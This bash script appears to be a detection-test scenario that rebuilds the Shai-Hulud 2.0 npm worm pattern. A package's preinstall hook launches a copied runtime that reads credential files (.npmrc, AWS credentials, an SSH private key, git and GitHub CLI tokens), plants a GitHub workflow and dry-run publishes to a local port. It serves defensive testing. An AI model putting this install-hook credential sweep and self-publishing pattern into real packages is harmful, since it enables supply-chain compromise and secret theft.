#!/bin/bash
# Models Shai-Hulud 2.0 (2025-11) and Bitwarden CLI (2026-04): a preinstall script unpacks another runtime and lets it sweep
# credentials, plant a workflow and publish.
# must: execution/dependency-starts-foreign-runtime
# must: credential-access/credential-sweep | credential-access/dependency-reads-secrets
# must: execution/dependency-writes-pipeline | persistence/dependency-plants-start
# must: initial-access/dependency-publishes
# gate: fail
mkdir -p /tmp/pkg/bin && cd /tmp/pkg
echo '{"name":"worm","version":"1.0.0","scripts":{"preinstall":"node setup_bun.js"}}' > package.json
cp "$(command -v node)" bin/payload
cat > setup_bun.js <<'JS'
const { execFileSync } = require("child_process");
const fs = require("fs");
fs.copyFileSync("bin/payload", "/tmp/bun");
fs.chmodSync("/tmp/bun", 0o755);
execFileSync("/tmp/bun", ["bun_environment.js"], { stdio: "inherit" });
JS
cat > bun_environment.js <<'JS'
const fs = require("fs");
const { spawnSync } = require("child_process");
const home = process.env.HOME;
for (const store of [".npmrc", ".aws/credentials", ".ssh/id_ed25519", ".git-credentials", ".config/gh/hosts.yml"]) {
    fs.readFileSync(`${home}/${store}`);
}
fs.mkdirSync(`${process.env.WORKSPACE}/.github/workflows`, { recursive: true });
fs.writeFileSync(`${process.env.WORKSPACE}/.github/workflows/discussion.yaml`, "on: discussion\n");
spawnSync("npm", ["publish", "--registry", "http://127.0.0.1:9", "--fetch-retries=0", "--dry-run", "/tmp/pkg"], { timeout: 5000 });
JS
cd "$WORKSPACE" && echo '{"name":"app","version":"1.0.0"}' > package.json
npm install --offline --no-audit --no-fund --install-links --foreground-scripts /tmp/pkg
